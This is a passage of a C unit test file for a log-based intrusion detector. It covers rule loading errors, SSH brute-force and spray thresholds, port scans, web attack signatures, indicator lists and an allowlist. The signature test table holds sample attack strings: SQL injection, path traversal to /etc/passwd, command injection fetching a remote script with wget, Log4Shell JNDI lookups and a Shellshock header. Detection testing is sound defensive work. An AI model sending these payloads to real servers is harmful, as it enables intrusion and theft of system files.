/* SPDX-License-Identifier: Apache-2.0 */
/* test-detect.c — unit tests of the detect module: rule loading and its
 * errors, counting windows and first sightings, signatures, indicators,
 * allowlist, caps, expiry, reload and alert JSON. Events are built by hand
 * here (spans into the test strings), independent of the parsers. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "detect.h"

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

/* ---- helpers ----------------------------------------------------------- */

#define T0 1700000000000LL /* 2023-11-14T22:13:20Z */
#define MAX_GOT 64

typedef struct got {
    unsigned n;
    mm_alert a[MAX_GOT];
} got;

static void collect(const mm_alert *a, void *ud)
{
    got *g = ud;
    if (g->n < MAX_GOT)
        g->a[g->n] = *a;
    g->n++;
}

static unsigned count_rule(const got *g, const char *id)
{
    unsigned n = 0;
    for (unsigned i = 0; i < g->n && i < MAX_GOT; i++)
        if (strcmp(g->a[i].rule_id, id) == 0)
            n++;
    return n;
}

static const mm_alert *find_rule(const got *g, const char *id)
{
    for (unsigned i = 0; i < g->n && i < MAX_GOT; i++)
        if (strcmp(g->a[i].rule_id, id) == 0)
            return &g->a[i];
    return NULL;
}

static mm_span S(const char *s)
{
    return mm_span_make(s, s ? strlen(s) : 0);
}

static mm_addr A(const char *s)
{
    mm_addr a;
    assert_int_equal(mm_addr_parse(s, strlen(s), &a), MM_OK);
    return a;
}

static mm_ruleset *default_rules(const char *ioc, const char *allow)
{
    mm_ruleset *rs;
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    mm_rc rc = mm_ruleset_add_default_rules(rs, &err);
    if (rc != MM_OK) {
        char m[1024];
        mm_err_format(&err, m, sizeof m);
        fail_msg("default rules: %s", m);
    }
    if (ioc)
        assert_int_equal(mm_ruleset_add_ioc_text(rs, "testlist", "<ioc>", ioc,
                                                 strlen(ioc), &err),
                         MM_OK);
    if (allow)
        assert_int_equal(mm_ruleset_add_allow(rs, allow, &err), MM_OK);
    rc = mm_ruleset_compile(rs, &err);
    if (rc != MM_OK) {
        char m[1024];
        mm_err_format(&err, m, sizeof m);
        fail_msg("compile: %s", m);
    }
    return rs;
}

static mm_event ssh_ev(int64_t ts, const char *ip, const char *user,
                       mm_action act)
{
    mm_event ev;
    memset(&ev, 0, sizeof ev);
    ev.ts_ms = ts;
    ev.dataset = MM_DS_SSHD;
    ev.category = MM_CAT_AUTHENTICATION;
    ev.action = act;
    ev.outcome = act == MM_ACT_AUTH_SUCCESS ? MM_OUT_SUCCESS : MM_OUT_FAILURE;
    ev.count = 1;
    ev.src = A(ip);
    ev.user = S(user);
    ev.process = S("sshd");
    return ev;
}

static mm_event web_ev(int64_t ts, const char *ip, const char *path,
                       const char *query, const char *ua, uint16_t status)
{
    mm_event ev;
    memset(&ev, 0, sizeof ev);
    ev.ts_ms = ts;
    ev.dataset = MM_DS_WEB_ACCESS;
    ev.category = MM_CAT_WEB;
    ev.action = MM_ACT_HTTP_REQUEST;
    ev.count = 1;
    ev.src = A(ip);
    ev.method = S("GET");
    ev.path = S(path);
    ev.query = S(query);
    ev.user_agent = S(ua);
    ev.status = status;
    return ev;
}

static void feed(mm_detector *d, const mm_event *ev, got *g)
{
    static const char line[] = "raw sample line";
    mm_detector_feed(d, ev, line, sizeof line - 1, collect, g);
}

/* ---- rule loading --------------------------------------------------------
 */

static void test_default_rules_load(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_ruleset_info info;
    mm_ruleset_get_info(rs, &info);
    assert_true(info.rules >= 18);
    assert_true(info.signatures >= 10);
    mm_ruleset_free(rs);

    /* the same files load from the rules directory */
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    assert_int_equal(mm_ruleset_add_rules_dir(rs, "rules", &err), MM_OK);
    assert_int_equal(mm_ruleset_compile(rs, &err), MM_OK);
    mm_ruleset_info info2;
    mm_ruleset_get_info(rs, &info2);
    assert_int_equal(info2.rules, info.rules);
    mm_ruleset_free(rs);
}

static const char good_head[] =
    "rule x.test\n"
    "  kind threshold\n"
    "  severity low\n"
    "  match event.action = authentication_failure\n"
    "  count 3\n"
    "  window 1m\n"
    "  title.ja テスト\n"
    "  title.en test\n"
    "  advice.ja 対処\n"
    "  advice.en act\n";

static void test_rule_errors(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        unsigned line;
        const char *msg;
    } cases[] = {
        {"rule a.b\n  kind threshold\n  colour red\n", 3,
         "unknown keyword 'colour'"},
        {"rule a.b\n  kind cascade\n", 2, "unknown kind 'cascade'"},
        {"rule a.b\n  kind threshold\n  count 5x\n", 3,
         "bad number '5x' for count"},
        {"rule a.b\n  kind threshold\n  count 0\n", 3, "bad number '0'"},
        {"rule a.b\n  kind threshold\n  window 10y\n", 3,
         "bad duration '10y'"},
        {"rule a.b\n  kind threshold\n  match event.action = logged_in\n", 3,
         "unknown event.action 'logged_in'"},
        {"rule a.b\n  kind threshold\n  match event.colour = red\n", 3,
         "unknown filter field 'event.colour'"},
        {"rule a.b\n  kind threshold\n  match http.response.status_code = "
         "500-400\n",
         3, "bad number or range '500-400'"},
        {"rule a.b\n  kind threshold\n  key source.port\n", 3,
         "unknown key 'source.port'"},
        {"rule a.b\n  kind threshold\n  severity low\n", 1,
         "rule a.b: missing 'match'"},
        {"rule a.b\n  severity low\n", 2, "'kind' must be the first keyword"},
        {"rule a.b\n  kind signature\n  field url.original\n  pattern "
         "(abc\n",
         4, "pattern rejected by Hyperscan: Missing close parenthesis"},
        {"rule a.b\n  kind signature\n  field url.original\n  pattern a*\n", 4,
         "pattern can match an empty string"},
        {"rule a.b\n  kind signature\n  field source.port\n", 3,
         "unknown field 'source.port' for kind signature"},
        {"rule a.b\n  kind threshold\n  pattern abc\n", 3,
         "'pattern' does not apply to kind threshold"},
        {"rule a.b\n  kind threshold\n  kind distinct\n", 3,
         "'kind' given twice"},
        {"rule A!\n", 1, "bad rule id 'A!'"},
        {"  kind threshold\n", 1, "'kind' outside a rule"},
        {"rule a.b\n  kind distinct\n  distinct url.path\n", 3,
         "unknown distinct field 'url.path'"},
        {"rule a.b\n  kind threshold\n  technique T1110.1\n", 3,
         "bad ATT&CK technique"},
        {"rule a.b\n  kind threshold\n  technique T1110, ,T1078\n", 3,
         "bad ATT&CK technique ''"},
        {"rule a.b\n  kind ioc\n  vulnerability CVE-21-1\n", 3,
         "bad vulnerability 'CVE-21-1'"},
        {"rule a.b\n  kind threshold\n  match service.type = telnet\n", 3,
         "unknown service.type 'telnet'"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        mm_ruleset *rs;
        mm_err err;
        memset(&err, 0, sizeof err);
        assert_int_equal(mm_ruleset_new(&rs), MM_OK);
        mm_rc rc = mm_ruleset_add_rules(rs, "t.rules", cases[i].text,
                                        strlen(cases[i].text), &err);
        char m[1024];
        mm_err_format(&err, m, sizeof m);
        if (rc == MM_OK || strcmp(err.file, "t.rules") != 0 ||
            err.line != cases[i].line || !strstr(err.msg, cases[i].msg))
            fail_msg("case %zu: got rc %d '%s', want line %u '%s'", i, rc, m,
                     cases[i].line, cases[i].msg);
        mm_ruleset_info info;
        mm_ruleset_get_info(rs, &info);
        assert_int_equal(info.rules, 0); /* nothing added */
        mm_ruleset_free(rs);
    }

    /* a good rule, then the same id again in another file */
    mm_ruleset *rs;
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    assert_int_equal(mm_ruleset_add_rules(rs, "a.rules", good_head,
                                          strlen(good_head), &err),
                     MM_OK);
    assert_int_equal(mm_ruleset_add_rules(rs, "b.rules", good_head,
                                          strlen(good_head), &err),
                     MM_EPARSE);
    assert_string_equal(err.file, "b.rules");
    assert_int_equal(err.line, 1);
    assert_non_null(strstr(err.msg, "duplicate rule id 'x.test'"));
    /* over-long line */
    size_t big = 5000;
    char *t = malloc(big + 32);
    memcpy(t, "rule y\n  kind ioc\n  title.en ", 29);
    memset(t + 29, 'a', big);
    t[29 + big] = '\n';
    assert_int_equal(mm_ruleset_add_rules(rs, "c.rules", t, 30 + big, &err),
                     MM_ELIMIT);
    assert_int_equal(err.line, 3);
    assert_non_null(strstr(err.msg, "line longer than"));
    free(t);
    mm_ruleset_free(rs);
}

/* ---- counting rules --------------------------------------------------- */

/* Feeds failures at the given offsets (seconds); returns how many
 * ssh.bruteforce alerts came out and copies the first to *out. */
static unsigned run_failures(const int64_t *offs_s, unsigned n, mm_alert *out)
{
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    for (unsigned i = 0; i < n; i++) {
        mm_event ev = ssh_ev(T0 + offs_s[i] * 1000, "203.0.113.7", "root",
                             MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    unsigned c = count_rule(&g, "ssh.bruteforce");
    if (c && out) {
        *out = *find_rule(&g, "ssh.bruteforce");
        out->rule_id = out->title_ja = out->title_en = NULL;
        out->advice_ja = out->advice_en = out->category = NULL;
    }
    mm_detector_free(d);
    mm_ruleset_free(rs);
    return c;
}

static void test_threshold_boundaries(void **state)
{
    (void)state;
    mm_alert a;
    int64_t four[] = {0, 10, 20, 30};
    assert_int_equal(run_failures(four, 4, &a), 0);

    int64_t five[] = {0, 10, 20, 30, 40};
    assert_int_equal(run_failures(five, 5, &a), 1);
    assert_int_equal(a.count, 5);
    assert_int_equal(a.severity, MM_SEV_MEDIUM);
    assert_string_equal(a.key, "203.0.113.7");
    assert_int_equal(a.first_ms, T0);
    assert_int_equal(a.last_ms, T0 + 40000);
    assert_true(a.final);

    /* five spread over 11 minutes: never five inside 10 minutes */
    int64_t spread[] = {0, 165, 330, 495, 660};
    assert_int_equal(run_failures(spread, 5, &a), 0);

    /* five within 9 min 59 s */
    int64_t within[] = {0, 150, 300, 450, 599};
    assert_int_equal(run_failures(within, 5, &a), 1);

    /* exactly 10 minutes apart is outside a 10-minute window */
    int64_t edge[] = {0, 150, 300, 450, 600};
    assert_int_equal(run_failures(edge, 5, &a), 0);

    /* out-of-order lines within the window still count */
    int64_t shuffled[] = {300, 0, 450, 150, 10};
    assert_int_equal(run_failures(shuffled, 5, &a), 1);
}

static void test_message_repeat(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    mm_event ev = ssh_ev(T0, "198.51.100.9", "admin", MM_ACT_AUTH_FAILURE);
    ev.count = 4; /* "message repeated 4 times" */
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 0);
    ev.ts_ms += 1000;
    ev.count = 1;
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->count, 5);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_spray(void **state)
{
    (void)state;
    static const char *users[] = {"root", "admin",  "oracle",
                                  "test", "ubuntu", "git"};
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    /* 4 distinct names, each tried twice: no spray (but bruteforce, which
     * counts the failures; "Invalid user" lines alone would not) */
    for (int r = 0; r < 2; r++)
        for (int i = 0; i < 4; i++) {
            mm_event ev = ssh_ev(T0 + (r * 4 + i) * 1000, "192.0.2.50",
                                 users[i], MM_ACT_AUTH_FAILURE);
            feed(d, &ev, &g);
        }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.spray"), 0);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    /* the fifth and sixth names */
    for (int i = 4; i < 6; i++) {
        mm_event ev = ssh_ev(T0 + (10 + i) * 1000, "192.0.2.50", users[i],
                             MM_ACT_INVALID_USER);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.spray"), 1);
    const mm_alert *a = find_rule(&g, "ssh.spray");
    assert_int_equal(a->distinct, 6);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_sequence(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    /* success without failures */
    mm_event ok = ssh_ev(T0, "203.0.113.20", "alice", MM_ACT_AUTH_SUCCESS);
    feed(d, &ok, &g);
    /* four failures then success: not enough */
    for (int i = 0; i < 4; i++) {
        mm_event ev = ssh_ev(T0 + i * 1000, "203.0.113.21", "alice",
                             MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    ok = ssh_ev(T0 + 5000, "203.0.113.21", "alice", MM_ACT_AUTH_SUCCESS);
    feed(d, &ok, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.success_after_failures"), 0);
    /* five failures then success from another source */
    for (int i = 0; i < 5; i++) {
        mm_event ev = ssh_ev(T0 + i * 1000, "203.0.113.22", "alice",
                             MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    ok = ssh_ev(T0 + 60000, "203.0.113.22", "alice", MM_ACT_AUTH_SUCCESS);
    feed(d, &ok, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.success_after_failures"), 1);
    const mm_alert *a = find_rule(&g, "ssh.success_after_failures");
    assert_int_equal(a->severity, MM_SEV_HIGH);
    assert_string_equal(a->key, "203.0.113.22");
    assert_int_equal(a->count, 6);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_web_scan_404(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    char path[64];
    for (int i = 0; i < 19; i++) {
        snprintf(path, sizeof path, "/missing-%d.html", i);
        mm_event ev =
            web_ev(T0 + i * 2000, "198.51.100.77", path, NULL, "x", 404);
        feed(d, &ev, &g);
    }
    mm_event ev200 = web_ev(T0 + 39000, "198.51.100.77", "/", NULL, "x", 200);
    feed(d, &ev200, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "web.scan"), 0);
    mm_event ev = web_ev(T0 + 40000, "198.51.100.77", "/nope", NULL, "x", 404);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "web.scan"), 1);
    assert_int_equal(find_rule(&g, "web.scan")->count, 20);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_portscan(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    for (int i = 0; i < 20; i++) {
        mm_event ev;
        memset(&ev, 0, sizeof ev);
        ev.ts_ms = T0 + i * 100;
        ev.dataset = MM_DS_NETFILTER;
        ev.category = MM_CAT_NETWORK;
        ev.action = MM_ACT_FIREWALL_DENY;
        ev.count = 1;
        ev.src = A("45.33.32.156");
        ev.dst = A("192.0.2.1");
        ev.dst_port = (uint16_t)(i < 14 ? 20 + i : 33); /* 14 distinct ports */
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "fw.portscan"), 0);
    mm_event ev;
    memset(&ev, 0, sizeof ev);
    ev.ts_ms = T0 + 5000;
    ev.dataset = MM_DS_NETFILTER;
    ev.category = MM_CAT_NETWORK;
    ev.action = MM_ACT_FIREWALL_DENY;
    ev.count = 1;
    ev.src = A("45.33.32.156");
    ev.dst_port = 8080;
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "fw.portscan"), 1);
    assert_int_equal(find_rule(&g, "fw.portscan")->distinct, 15);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* ---- signatures -----------------------------------------------------------
 */

typedef struct sig_case {
    const char *rule; /* expected rule, or NULL: no web.probe/attack hit */
    const char *path;
    const char *query;
    const char *ua;
} sig_case;

static const sig_case sig_cases[] = {
    {"web.probe.wordpress", "/wp-login.php", "action=register", NULL},
    {"web.probe.wordpress", "/blog/xmlrpc.php", NULL, NULL},
    {"web.probe.env", "/.env", NULL, NULL},
    {"web.probe.env", "/laravel/.env.bak", NULL, NULL},
    {"web.probe.git", "/.git/config", NULL, NULL},
    {"web.probe.git", "/.git", NULL, NULL},
    {"web.probe.phpmyadmin", "/phpMyAdmin/index.php", NULL, NULL},
    {"web.probe.phpmyadmin", "/pma/", NULL, NULL},
    {"web.probe.phpmyadmin", "/phpmyadmin2/scripts/setup.php", NULL, NULL},
    {"web.probe.cgi", "/cgi-bin/test.cgi", NULL, NULL},
    {"web.attack.traversal", "/static/../../../../etc/passwd", NULL, NULL},
    {"web.attack.traversal", "/download", "file=..%2f..%2fetc%2fhosts", NULL},
    {"web.attack.traversal", "/%2e%2e/%2e%2e/windows/win.ini", NULL, NULL},
    {"web.attack.sqli", "/item.php",
     "id=1+UNION+SELECT+username,password+FROM+users", NULL},
    {"web.attack.sqli", "/login", "user=admin'%20or%201=1--", NULL},
    {"web.attack.sqli", "/news", "id=5%20AND%20SLEEP(5)", NULL},
    {"web.attack.sqli", "/q",
     "x=1%20and%201=(select%201%20from%20information_schema.tables)", NULL},
    {"web.attack.cmdi", "/ping.cgi",
     "ip=127.0.0.1;wget%20http://198.51.100.1/x.sh", NULL},
    {"web.attack.cmdi", "/shell", "cmd=$(id)", NULL},
    {"web.attack.cmdi", "/index.php", "s=`cat%20/etc/hosts`", NULL},
    {"web.attack.cmdi", "/x", "a=1|sh", NULL},
    {"web.attack.log4shell", "/", NULL, "${jndi:ldap://198.51.100.3:1389/a}"},
    {"web.attack.log4shell", "/api", "q=%24%7Bjndi:dns://x.example%7D", NULL},
    {"web.attack.log4shell", "/", NULL, "${${lower:j}ndi:ldap://x/a}"},
    {"web.attack.shellshock", "/cgi-bin/status", NULL,
     "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
    /* real-looking clean requests (data/samples/elastic-apache_access_10k) */
    {NULL, "/robots.txt", NULL, "Mozilla/5.0 (compatible; Googlebot/2.1)"},
    {NULL, "/presentations/logstash-monitorama-2013/images/kibana-search.png",
     NULL, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1)"},
    {NULL, "/blog/geekery/disabling-battery-in-ubuntu-vms.html",
     "utm_source=feedburner&utm_medium=feed&utm_campaign=Feed%3A+semicomplete%"
     "2Fmain+%28semicomplete.com+-+Jordan+Sissel%29",
     "Tiny Tiny RSS/1.11 (http://tt-rss.org/)"},
    {NULL, "/blog/tags/puppet", "flav=rss20", "UniversalFeedParser/4.2"},
    {NULL, "/blog/tags/is%20it%20done%20yet", NULL, NULL},
    {NULL, "/search", "q=select+a+union+representative", NULL},
    {NULL, "/environment/news.html", NULL, NULL},
    {NULL, "/digital/pmaster.html", NULL, NULL},
    {NULL, "/docs/", "q=how+to+sleep+well&page=2", NULL},
    /* near misses, one or more per rule */
    {NULL, "/blog/wp-content/uploads/logo.png", NULL, NULL},
    {NULL, "/envelope.html", NULL, NULL},
    {NULL, "/gitlab/help", "q=.github", NULL},
    {NULL, "/pmaps/index.html", NULL, NULL},
    {NULL, "/cgi/info", NULL, NULL},
    {NULL, "/a/b..c/d.html", NULL, NULL},
    {NULL, "/search", "q=union+station+timetable", NULL},
    {NULL, "/shop", "q=select+your+size&sort=price", NULL},
    {NULL, "/price", "q=%245+or+less", NULL},
    {NULL, "/t", "name=%24%7Bname%7D", "curl/8.0"},
    {NULL, "/", NULL, "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)"},
};

static bool has_hit(const mm_line_hits *h, const char *id)
{
    for (unsigned i = 0; i < h->n; i++)
        if (strcmp(h->ids[i], id) == 0)
            return true;
    return false;
}

static void test_signatures(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    for (size_t i = 0; i < sizeof sig_cases / sizeof sig_cases[0]; i++) {
        const sig_case *c = &sig_cases[i];
        mm_event ev =
            web_ev(T0, "198.51.100.5", c->path, c->query, c->ua, 404);
        mm_line_hits h;
        mm_detector_match_line(d, &ev, "x", 1, &h);
        if (c->rule) {
            if (!has_hit(&h, c->rule))
                fail_msg("case %zu (%s%s%s): %s not hit (%u hits)", i, c->path,
                         c->query ? "?" : "", c->query ? c->query : "",
                         c->rule, h.n);
        } else if (h.n) {
            fail_msg("case %zu (%s): false positive %s", i, c->path, h.ids[0]);
        }
    }
    /* an alert aggregates per rule and source */
    got g = {0};
    for (int i = 0; i < 4; i++) {
        mm_event ev =
            web_ev(T0 + i * 1000, "198.51.100.6", "/.env", NULL, "curl", 404);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "web.probe.env"), 1);
    assert_int_equal(find_rule(&g, "web.probe.env")->count, 4);
    assert_int_equal(find_rule(&g, "web.probe.env")->n_samples, 3);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* A minimal combined-log reader, for the false-positive check only. */
static bool parse_combined(char *line, mm_event *ev)
{
    memset(ev, 0, sizeof *ev);
    char *sp = strchr(line, ' ');
    if (!sp)
        return false;
    if (mm_addr_parse(line, (size_t)(sp - line), &ev->src) != MM_OK)
        return false;
    char *req = strchr(sp, '"');
    if (!req)
        return false;
    char *m = req + 1, *u = strchr(m, ' ');
    if (!u)
        return false;
    u++;
    char *ue = strchr(u, ' ');
    char *rq_end = strchr(u, '"');
    if (!ue || !rq_end || ue > rq_end)
        return false;
    char *q = memchr(u, '?', (size_t)(ue - u));
    ev->path = mm_span_make(u, (size_t)((q ? q : ue) - u));
    if (q)
        ev->query = mm_span_make(q + 1, (size_t)(ue - q - 1));
    ev->status = (uint16_t)strtoul(rq_end + 2, NULL, 10);
    char *last = strrchr(line, '"');
    if (last && last > rq_end) {
        *last = '\0';
        char *uas = strrchr(line, '"');
        if (uas)
            ev->user_agent = mm_span_make(uas + 1, strlen(uas + 1));
    }
    ev->dataset = MM_DS_WEB_ACCESS;
    ev->category = MM_CAT_WEB;
    ev->action = MM_ACT_HTTP_REQUEST;
    ev->count = 1;
    ev->ts_ms = T0;
    return true;
}

/* The cache of values that matched nothing must never hide a match: a
 * decoded URL that matched a rule already hit by the raw URL is not "clean",
 * and repeated benign values stay benign. */
static void test_signature_cache(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    static const struct {
        const char *path, *query, *rule;
    } seq[] = {
        {"/x", "q=%2e%2e/", "web.attack.traversal"}, /* raw and decoded hit */
        {"/x", "q=.%2e/", "web.attack.traversal"},   /* only decoded hits */
        {"/index.html", NULL, NULL},
        {"/index.html", NULL, NULL},               /* served from cache */
        {"/x", "q=.%2e/", "web.attack.traversal"}, /* still found */
    };
    for (size_t i = 0; i < sizeof seq / sizeof seq[0]; i++) {
        mm_event ev = web_ev(T0, "198.51.100.5", seq[i].path, seq[i].query,
                             "Mozilla/5.0", 200);
        mm_line_hits h;
        mm_detector_match_line(d, &ev, "x", 1, &h);
        if (seq[i].rule && !has_hit(&h, seq[i].rule))
            fail_msg("step %zu: %s not hit", i, seq[i].rule);
        if (!seq[i].rule && h.n)
            fail_msg("step %zu: false positive %s", i, h.ids[0]);
    }
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_signatures_real_log(void **state)
{
    (void)state;
    FILE *f = fopen("data/samples/elastic-apache_access_10k.log", "r");
    assert_non_null(f);
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    char line[8192];
    unsigned lines = 0, wp = 0, other = 0;
    while (fgets(line, sizeof line, f)) {
        mm_event ev;
        if (!parse_combined(line, &ev))
            continue;
        lines++;
        mm_line_hits h;
        mm_detector_match_line(d, &ev, line, strlen(line), &h);
        for (unsigned i = 0; i < h.n; i++) {
            if (strcmp(h.ids[i], "web.probe.wordpress") == 0) {
                wp++;
            } else {
                other++;
                print_message("unexpected %s: %.*s%s%.*s\n", h.ids[i],
                              (int)ev.path.len, ev.path.p,
                              ev.query.len ? "?" : "", (int)ev.query.len,
                              ev.query.p);
            }
        }
    }
    fclose(f);
    assert_true(lines > 9900);
    assert_int_equal(wp, 12); /* the 12 wp-login.php probes in the sample */
    assert_int_equal(other, 0);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* ---- indicators and allowlist ------------------------------------------ */

static const char ioc_text[] = "# test indicators\n"
                               "203.0.113.66\n"
                               "198.51.100.0/24   # a whole network\n"
                               "2001:db8:bad::/48\n"
                               "2001:db8::1\n"
                               "evil.example\n"
                               "\n"
                               "Phish.Example.NET.\n";

static void test_ioc(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(ioc_text, NULL);
    mm_ruleset_info info;
    mm_ruleset_get_info(rs, &info);
    assert_int_equal(info.ioc_ips, 4);
    assert_int_equal(info.ioc_domains, 2);
    mm_detector *d;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    static const struct {
        const char *src, *dst, *dom;
        const char *rule;
    } cases[] = {
        {"203.0.113.66", NULL, NULL, "ioc.ip"},
        {"203.0.113.67", NULL, NULL, NULL},
        {"198.51.100.200", NULL, NULL, "ioc.ip"},
        {"198.51.101.1", NULL, NULL, NULL},
        {"192.0.2.1", "198.51.100.1", NULL, "ioc.ip"},
        {"2001:db8:bad:1::5", NULL, NULL, "ioc.ip"},
        {"2001:db8:bae::5", NULL, NULL, NULL},
        {"2001:db8::1", NULL, NULL, "ioc.ip"},
        {"2001:db8::2", NULL, NULL, NULL},
        {"::ffff:203.0.113.66", NULL, NULL, "ioc.ip"},
        {"192.0.2.1", NULL, "evil.example", "ioc.domain"},
        {"192.0.2.1", NULL, "a.b.EVIL.example", "ioc.domain"},
        {"192.0.2.1", NULL, "notevil.example", NULL},
        {"192.0.2.1", NULL, "example", NULL},
        {"192.0.2.1", NULL, "x.phish.example.net", "ioc.domain"},
        {"192.0.2.1", NULL, "example.net", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        mm_event ev;
        memset(&ev, 0, sizeof ev);
        ev.ts_ms = T0;
        ev.dataset = MM_DS_KV;
        ev.category = MM_CAT_NETWORK;
        ev.action = MM_ACT_FIREWALL_ALLOW;
        ev.count = 1;
        ev.src = A(cases[i].src);
        if (cases[i].dst)
            ev.dst = A(cases[i].dst);
        ev.dst_domain = S(cases[i].dom);
        mm_line_hits h;
        mm_detector_match_line(d, &ev, "x", 1, &h);
        bool hit = cases[i].rule && has_hit(&h, cases[i].rule);
        if (cases[i].rule ? !hit : h.n != 0)
            fail_msg("ioc case %zu: %u hits", i, h.n);
    }
    /* the alert names the indicator and the set */
    got g = {0};
    mm_event ev;
    memset(&ev, 0, sizeof ev);
    ev.ts_ms = T0;
    ev.dataset = MM_DS_KV;
    ev.action = MM_ACT_FIREWALL_ALLOW;
    ev.count = 1;
    ev.src = A("192.0.2.10");
    ev.dst = A("198.51.100.9");
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    const mm_alert *a = find_rule(&g, "ioc.ip");
    assert_non_null(a);
    assert_string_equal(a->key, "198.51.100.9");
    assert_string_equal(a->indicator, "198.51.100.0/24 testlist");
    mm_detector_free(d);
    mm_ruleset_free(rs);

    /* a bad line stops the load with its line number; nothing is added */
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    mm_err err;
    static const char bad[] = "10.0.0.1\n10.0.0.0/33\n";
    assert_int_equal(
        mm_ruleset_add_ioc_text(rs, "s", "bad.txt", bad, strlen(bad), &err),
        MM_EPARSE);
    assert_int_equal(err.line, 2);
    assert_non_null(strstr(err.msg, "prefix length out of range"));
    static const char bad2[] = "good.example\nnot a name\n";
    assert_int_equal(
        mm_ruleset_add_ioc_text(rs, "s", "bad.txt", bad2, strlen(bad2), &err),
        MM_EPARSE);
    assert_int_equal(err.line, 2);
    mm_ruleset_get_info(rs, &info);
    assert_int_equal(info.ioc_ips, 0);
    assert_int_equal(info.ioc_domains, 0);
    mm_ruleset_free(rs);
}

static void test_allowlist(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, "203.0.113.0/28");
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    for (int i = 0; i < 10; i++) {
        mm_event ev =
            ssh_ev(T0 + i * 1000, "203.0.113.7", "root", MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
        mm_event ev2 =
            ssh_ev(T0 + i * 1000, "203.0.113.17", "root", MM_ACT_AUTH_FAILURE);
        feed(d, &ev2, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_string_equal(find_rule(&g, "ssh.bruteforce")->key, "203.0.113.17");
    mm_detector_stats st;
    mm_detector_get_stats(d, &st);
    assert_int_equal(st.suppressed, 10);
    assert_int_equal(st.events, 20);
    mm_detector_free(d);
    mm_ruleset_free(rs);
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    assert_int_equal(mm_ruleset_add_allow(rs, "10.0.0.0/8x", &err), MM_EINVAL);
